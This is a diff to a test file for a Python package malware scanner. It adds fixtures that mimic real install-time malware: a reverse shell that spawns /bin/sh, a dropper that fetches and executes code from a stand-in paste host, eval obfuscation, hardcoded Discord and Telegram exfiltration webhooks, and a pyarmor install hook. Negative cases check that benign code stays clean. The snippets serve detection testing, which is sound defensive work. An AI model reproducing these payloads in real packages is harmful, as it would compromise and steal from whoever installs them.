@@ -299,3 +299,112 @@ def test_address_lookups_are_not_network_payloads(tmp_path: Path) -> None:
     )
     result = scan_target(tmp_path)
     assert result.verdict == "clean", [(f.rule, f.message) for f in result.findings]
+
+
+# ---------------------------------------------------------------- more real-malware techniques
+
+MORE_TECHNIQUES = [
+    (
+        "python2-setup-py-socket-shell",
+        "setup.py",
+        "import socket, base64, os\nrip = 'MTkyLjAuMi4x'\n"
+        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+        "s.connect((base64.b64decode(rip), 017620))\n"
+        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nprint 'ok'\nos.system('/bin/sh -i')\n",
+        "reverse-shell.socket-shell",
+    ),
+    (
+        "temp-file-dropper-of-a-paste-loader",
+        "setup.py",
+        "from tempfile import NamedTemporaryFile as _f\nfrom sys import executable as _e\n"
+        "from os import system as _s\n_t = _f(delete=False)\n"
+        '_t.write(b"""from urllib.request import urlopen as _u;'
+        'exec(_u(\'https://paste.example.invalid/paste/abc/raw\').read())""")\n'
+        "_t.close()\n_s(f\"start {_e.replace('.exe', 'w.exe')} {_t.name}\")\n",
+        "download-execute.remote-code",
+    ),
+    (
+        "eval-fetches-a-builtin",
+        "p/__init__.py",
+        "_e = eval('\\x65\\x76\\x61\\x6c')\n_c = _e('compile')\n",
+        "obfuscation.hidden-name",
+    ),
+    (
+        "hardcoded-discord-webhook",
+        "p/steal.py",
+        "import requests\n"
+        "H = 'https://discord.com/api/webhooks/104030353260937634/" + "Zx" * 34 + "'\n"
+        "def send(text):\n    requests.post(H, json={'content': text})\n",
+        "suspicious-endpoint.webhook",
+    ),
+    (
+        "hardcoded-telegram-bot-token",
+        "p/bot.py",
+        "import requests\nTOKEN = '1234567890:AA" + "x" * 33 + "'\n"
+        "def send(m):\n"
+        "    requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', data={'text': m})\n",
+        "suspicious-endpoint.webhook",
+    ),
+    (
+        "pyarmor-code-run-by-an-install-command",
+        "setup.py",
+        "from setuptools import setup\nfrom setuptools.command.install import install\n"
+        "class I(install):\n    def run(self):\n"
+        "        from pytransform import pyarmor_runtime\n        pyarmor_runtime()\n"
+        "        __pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00')\n"
+        "setup(name='p', cmdclass={'install': I})\n",
+        "obfuscation.marshal-literal",
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("name", "source", "rule"),
+    [t[1:] for t in MORE_TECHNIQUES],
+    ids=[t[0] for t in MORE_TECHNIQUES],
+)
+def test_more_real_malware_techniques(tmp_path: Path, name: str, source: str, rule: str) -> None:
+    files: dict[str, str | bytes] = {name: source}
+    if name != "setup.py":
+        files["setup.py"] = "from setuptools import setup\nsetup(name='p')\n"
+    verdict, findings = _scan_sdist(tmp_path, files)
+    assert verdict != "clean"
+    assert any(f.rule == rule and f.severity >= Severity.HIGH for f in findings)
+
+
+def test_a_webhook_the_user_passes_in_stays_quiet(tmp_path: Path) -> None:
+    source = (
+        "import requests\nAPI = 'https://discord.com/api/webhooks/'\n"
+        "def notify(webhook_id, token, text):\n"
+        "    requests.post(f'{API}{webhook_id}/{token}', json={'content': text})\n"
+    )
+    verdict, _ = _scan_sdist(
+        tmp_path, {"p/notify.py": source, "setup.py": "from setuptools import setup\nsetup()\n"}
+    )
+    assert verdict == "clean"
+
+
+def test_python2_setup_py_without_payload_stays_clean(tmp_path: Path) -> None:
+    source = (
+        "from setuptools import setup\nprint 'building'\nMODE = 0755\n"
+        "try:\n    import foo\nexcept ImportError, e:\n    pass\nsetup(name='p')\n"
+    )
+    verdict, findings = _scan_sdist(tmp_path, {"setup.py": source})
+    assert verdict == "clean", [(f.rule, f.message) for f in findings]
+
+
+def test_a_pep723_maintainer_script_is_not_import_time_code(tmp_path: Path) -> None:
+    # pip's tools/update-rtd-redirects.py: a token from the environment sent to the
+    # service it manages, in a script declared as one (PEP 723).
+    body = (
+        "import os, httpx\nTOKEN = os.environ['RTD_API_TOKEN']\n"
+        "def api():\n    return httpx.Client(headers={'Authorization': f'token {TOKEN}'})\n"
+        "with api() as c:\n    c.get('https://docs.example.invalid/api/')\n"
+    )
+    (tmp_path / "tools").mkdir()
+    (tmp_path / "tools" / "sync.py").write_text(
+        "# /// script\n# dependencies = ['httpx']\n# ///\n" + body
+    )
+    assert scan_target(tmp_path).verdict == "clean"
+    (tmp_path / "tools" / "sync.py").write_text(body)
+    assert scan_target(tmp_path).verdict == "malicious"
